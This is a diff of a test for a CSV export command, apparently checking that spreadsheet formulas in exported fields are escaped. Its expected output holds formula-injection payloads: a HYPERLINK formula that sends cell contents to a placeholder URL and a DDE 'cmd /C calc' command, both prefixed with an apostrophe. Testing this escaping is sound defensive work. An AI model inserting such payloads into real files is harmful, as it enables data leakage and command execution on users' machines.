@@ -174,9 +174,9 @@ clock_at 2026-03-05T10:00:00Z
 run 0 emp-challenge list
 cp out list.csv
 check_out <<'EOF'
-challenge,review,kind,agent,cause,status,opened,decided,decider,grounds,note,revoked,revoker,revoke_note
-CH-1,'@S1,survey,ana,delivery,denied,2026-03-03T10:00:00Z,2026-03-03T10:00:00Z,lee,"'=HYPERLINK(""http://x""&A1,""open"")",'-2+3,,,
-CH-2,S2,survey,bob,delivery,approved,2026-03-03T10:00:00Z,2026-03-03T10:00:00Z,ada,'@SUM(1),'+cmd|' /C calc'!A0,,,
+challenge,review,kind,agent,cause,status,opened,decided,decider,grounds,note,revoked,revoker,revoke_note,measure,score,proposed_score,approved_score,reassign
+CH-1,'@S1,survey,ana,delivery,denied,2026-03-03T10:00:00Z,2026-03-03T10:00:00Z,lee,"'=HYPERLINK(""http://x""&A1,""open"")",'-2+3,,,,,,,,
+CH-2,S2,survey,bob,delivery,approved,2026-03-03T10:00:00Z,2026-03-03T10:00:00Z,ada,'@SUM(1),'+cmd|' /C calc'!A0,,,,,,,,
 EOF
 run 0 emp-challenge list --raw-text
 cp out list-raw.csv
